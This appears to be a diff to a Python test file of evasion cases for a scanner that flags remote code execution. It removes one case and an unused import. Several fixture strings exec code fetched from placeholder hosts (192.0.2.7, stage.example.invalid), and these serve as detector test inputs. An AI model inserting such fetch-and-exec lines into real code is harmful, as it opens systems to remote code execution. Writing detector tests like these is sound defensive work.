@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from tests.evasions.sample import CODE, SUSPICIOUS, Evasion, evasion
+from tests.evasions.sample import CODE, Evasion, evasion
 
 _GET = "import urllib.request as u\n\ndef get():\n    return u.urlopen('https://stage.example.invalid/a').read()\n\n"
 _OK = "def get():\n    return 'x = 1'\n\n"
@@ -288,12 +288,5 @@ CASES = (
         "called only by the user, from a raw address",
         "import urllib.request as u\n\ndef helper():\n    exec(u.urlopen('http://192.0.2.7/a').read())\n",
         "import urllib.request\n\ndef helper():\n    return urllib.request.urlopen('https://api.example.invalid/').read()\n",
-    ),
-    evasion(
-        "called only by the user, from a named host",
-        "import requests\n\ndef helper():\n    exec(requests.get('https://stage.example.invalid/a').text)\n"
-        "    exec(requests.get('https://stage.example.invalid/b').text)\n",
-        "import requests\n\ndef helper():\n    return requests.get('https://api.example.invalid/a').text\n",
-        SUSPICIOUS,
     ),
 )
